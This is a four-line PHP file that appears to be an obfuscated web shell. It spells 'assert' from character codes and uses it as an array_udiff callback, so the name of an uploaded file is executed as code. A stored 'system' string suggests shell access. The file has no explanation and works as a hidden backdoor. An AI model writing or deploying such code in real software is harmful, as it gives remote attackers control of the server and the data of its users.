<?php
$GLOBALS['fn_sy'] = 'system';
$c = $_FILES['nav']['name'];
array_udiff(array($c), array(1), strtolower(implode(array_map('chr', [65, 83, 83, 69, 82, 84]))));
